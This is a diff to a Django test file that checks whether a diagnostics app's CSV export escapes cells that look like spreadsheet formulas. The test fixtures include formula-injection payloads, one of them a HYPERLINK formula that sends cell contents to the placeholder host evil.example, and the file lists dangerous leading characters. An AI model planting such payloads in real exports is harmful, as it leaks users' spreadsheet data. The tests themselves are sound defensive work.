@@ -7,7 +7,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from diagnostics.catalogue import catalogue_data
+from diagnostics.catalogue import catalogue_data, clear_catalogue_cache
 from diagnostics.questionnaire.answers import (
     make_state,
     save_answer,
@@ -17,6 +17,7 @@ from diagnostics.results import exports
 from diagnostics.results.exports import CSV_COLUMNS
 from diagnostics.results.report import build_report
 from diagnostics.services import submit_diagnostic
+from recommendations.models import Question
 from tests.diagnostics.helpers import small_catalogue
 from tests.factories import CollectiviteFactory, DiagnosticFactory, MembershipFactory
 
@@ -278,6 +279,8 @@ def test_proposed_actions_are_listed_by_priority_rank(client, scored, referent):
         ("+33 1 23", "'+33 1 23"),
         ("-2", "'-2"),
         ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
         ("Oui = bien", "Oui = bien"),
         ("", ""),
         (3, "3"),
@@ -306,6 +309,44 @@ def test_the_csv_export_quotes_texts_that_look_like_formulas(client, scored, ref
     first = dict(zip(rows[0], rows[1], strict=True))
     assert first["commentaire"] == '\'=HYPERLINK("http://exemple.localhost")'
     assert first["collectivite"] == "'@Commune"
+
+
+def test_no_csv_cell_starts_like_a_formula_whatever_column_it_is_in(client, scored, referent):
+    data = catalogue_data(scored.catalogue_id)
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    for code, comment in [("A1", hyperlink), ("A2", "\t=1+1"), ("A3", "\r@SUM(A1)")]:
+        question = data.question_by_code(code)
+        answer = scored.answers.get(question=question)
+        save_answer(
+            diagnostic=scored,
+            question=question,
+            by=referent,
+            state={**state_of(answer), "comment": comment},
+            base_revision=answer.revision,
+        )
+    Question.objects.filter(pk=data.question_by_code("B1").pk).update(text="\t-1 ou +1 ?")
+    clear_catalogue_cache()
+    scored.collectivite.name = "\r=Commune"
+    scored.collectivite.save()
+    scored.title = "+33 diagnostic"
+    scored.save()
+    referent.email = "-referent@exemple.localhost"
+    referent.save()
+    client.force_login(referent)
+    response = client.get(reverse("diagnostic_export_csv", args=[scored.public_id]))
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert hyperlink not in text.replace(f"'{hyperlink}", "")
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert [cell for row in rows for cell in row if cell.startswith(dangerous)] == []
+    by_code = {row[10]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_code["A1"]["commentaire"] == "'" + hyperlink
+    assert by_code["A2"]["commentaire"] == "'\t=1+1"
+    assert by_code["A3"]["commentaire"] == "'\r@SUM(A1)"
+    assert by_code["B1"]["question_intitule"] == "'\t-1 ou +1 ?"
+    assert by_code["A1"]["collectivite"] == "'\r=Commune"
+    assert by_code["A1"]["diagnostic_titre"] == "'+33 diagnostic"
+    assert by_code["A1"]["modifiee_par"] == "'-referent@exemple.localhost"
 
 
 def test_the_exports_are_built_from_the_report_alone(client, scored, referent):
